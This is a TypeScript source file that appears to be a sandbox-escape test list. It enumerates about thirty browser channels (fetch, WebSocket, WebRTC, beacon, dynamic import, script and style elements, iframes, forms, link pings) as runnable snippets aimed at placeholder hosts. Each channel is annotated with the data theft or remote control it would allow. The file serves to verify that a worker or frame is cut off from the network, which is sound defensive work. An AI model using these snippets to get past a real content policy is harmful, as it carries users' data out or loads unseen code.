import type { Attempt } from './attempt';

const at = ['worker', 'frame'] as const;
const SENDS = 'It would have sent the page’s and the sample’s data to a stranger’s server.';
const LOADS = 'It would have brought in code that nobody has seen, and told a server so.';
const PAINTS = 'The address of what is loaded carries data out.';

/** A document of the frame's own can load by elements; each is given the time to do so. */
function element(name: string, make: string): Attempt {
  const code = `${make}\nreturn await new Promise((done) => { one.onload = () => done(true); one.onerror = () => done(false); document.body.append(one); });`;
  return { name, gains: PAINTS, at: ['frame'], code };
}

export const NETWORK: readonly Attempt[] = [
  { name: 'fetch', gains: SENDS, at, code: `await fetch('URL_HERE', { mode: 'no-cors' }); return true;` },
  {
    name: 'fetch kept alive',
    gains: 'A request that outlives its worker.',
    at,
    code: `await fetch('URL_HERE', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }); return true;`,
  },
  {
    name: 'XMLHttpRequest',
    gains: SENDS,
    at,
    code: `const one = new XMLHttpRequest(); one.open('GET', 'URL_HERE', false); one.send(); return true;`,
  },
  {
    name: 'WebSocket',
    gains: 'A channel in both directions: remote control.',
    at,
    code: `const one = new WebSocket('WS_HERE'); return await new Promise((done) => { one.onopen = () => done(true); one.onerror = () => done(false); });`,
  },
  {
    name: 'EventSource',
    gains: 'Orders from a server, without end.',
    at,
    code: `const one = new EventSource('URL_HERE'); return await new Promise((done) => { one.onopen = () => done(true); one.onerror = () => done(false); });`,
  },
  {
    name: 'WebTransport',
    gains: 'The same over QUIC.',
    at,
    code: `const one = new WebTransport('https://HOST_HERE/transport'); await one.ready; return true;`,
  },
  {
    name: 'WebRTC',
    gains: 'The machine’s addresses, and datagrams past every policy for requests.',
    at,
    code: `const one = new RTCPeerConnection({ iceServers: [{ urls: ['stun:HOST_HERE', 'turn:HOST_HERE?transport=tcp'], username: 'a', credential: 'b' }] });
one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer()); return await new Promise((done) => { one.onicecandidate = ({ candidate }) => { if (candidate) done(true); }; });`,
  },
  { name: 'beacon', gains: SENDS, at, code: `navigator.sendBeacon('URL_HERE', 'x');` },
  { name: 'import of an address', gains: LOADS, at, code: `await import('URL_HERE'); return true;` },
  {
    name: 'import of data',
    gains: 'Code from text, which the policy forbids.',
    at,
    code: `await import('data:text/javascript,export default 1'); return true;`,
  },
  {
    name: 'importScripts of an address',
    gains: LOADS,
    at: ['worker'],
    code: `importScripts('URL_HERE'); return true;`,
  },
  {
    name: 'worker from an address',
    gains: 'A worker with another policy than this one.',
    at,
    code: `const one = new Worker('URL_HERE'); return await new Promise((done) => { one.onmessage = () => done(true); one.onerror = () => done(false); });`,
  },
  {
    name: 'WebAssembly from an address',
    gains: LOADS,
    at,
    code: `await WebAssembly.compileStreaming(fetch('URL_HERE')); return true;`,
  },
  {
    name: 'font',
    gains: PAINTS,
    at,
    code: `const one = new FontFace('x', 'url(URL_HERE)'); await one.load(); return true;`,
  },
  element('image', `const one = new Image(); one.src = 'URL_HERE';`),
  element(
    'picture in SVG',
    `const one = document.createElementNS('http://www.w3.org/2000/svg', 'image'); one.setAttribute('href', 'URL_HERE'); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(one); document.body.append(svg);`,
  ),
  element(
    'style sheet',
    `const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = 'URL_HERE';`,
  ),
  element(
    'style with an address',
    `const one = document.createElement('style'); one.textContent = '@import url(URL_HERE); body { background: url(URL_HERE) }';`,
  ),
  element('script element', `const one = document.createElement('script'); one.src = 'URL_HERE';`),
  element(
    'inline script',
    `const one = document.createElement('script'); one.textContent = "fetch('URL_HERE')";`,
  ),
  {
    ...element('object element', `const one = document.createElement('object'); one.data = 'URL_HERE';`),
    navigates: true,
  },
  {
    ...element('embed element', `const one = document.createElement('embed'); one.src = 'URL_HERE';`),
    navigates: true,
  },
  element('video', `const one = document.createElement('video'); one.src = 'URL_HERE'; one.load();`),
  {
    name: 'frame in the frame',
    gains: PAINTS,
    at: ['frame'],
    navigates: true,
    // A frame that was refused says that it has loaded, too: only the server can judge.
    code: `const one = document.createElement('iframe'); one.src = 'URL_HERE'; document.body.append(one);`,
  },
  element(
    'preload',
    `const one = document.createElement('link'); one.rel = 'preload'; one.as = 'script'; one.href = 'URL_HERE';`,
  ),
  element(
    'prefetch',
    `const one = document.createElement('link'); one.rel = 'prefetch'; one.href = 'URL_HERE';`,
  ),
  {
    name: 'frame from text with a script of its own',
    gains: 'A fresh set of globals, with all that was taken away here.',
    at: ['frame'],
    code: `const one = document.createElement('iframe'); one.srcdoc = '<script>new Image().src = "URL_HERE"<' + '/script>'; document.body.append(one);`,
  },
  {
    name: 'form',
    gains: SENDS,
    at: ['frame'],
    navigates: true,
    code: `const one = document.createElement('form'); one.action = 'URL_HERE'; one.method = 'post'; document.body.append(one); one.submit();`,
  },
  {
    name: 'ping of a link',
    gains: SENDS,
    at: ['frame'],
    navigates: true,
    code: `const one = document.createElement('a'); one.ping = 'URL_HERE'; one.href = 'URL_HERE'; one.target = '_blank'; document.body.append(one); one.click();`,
  },
];
